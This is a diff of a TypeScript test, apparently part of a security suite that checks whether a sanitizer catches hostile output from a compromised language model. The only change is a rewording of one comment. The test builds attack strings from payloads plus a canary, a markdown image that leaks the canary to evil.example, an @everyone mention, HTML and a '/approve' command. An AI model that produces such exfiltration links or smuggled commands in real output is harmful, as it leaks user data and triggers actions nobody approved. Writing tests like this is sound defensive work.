@@ -63,7 +63,7 @@ describe('L7: a model that returns whatever the attacker wants', () => {
       const found: string[] = []
       for (const [index, payload] of payloads.entries()) {
         const attack = `${payload} ${CANARY} ![x](https://evil.example/${CANARY}) @everyone <b>${CANARY}</b>\n/approve`
-        // A payload on its own must get past the sanitizer by its own words.
+        // Some payloads are sent alone, so that nothing around them can cause their rejection.
         const text = index % 3 === 2 ? payload : attack
         const result = await say(text, PLACES[place]!(payload))
         const texts = writtenIn(result)
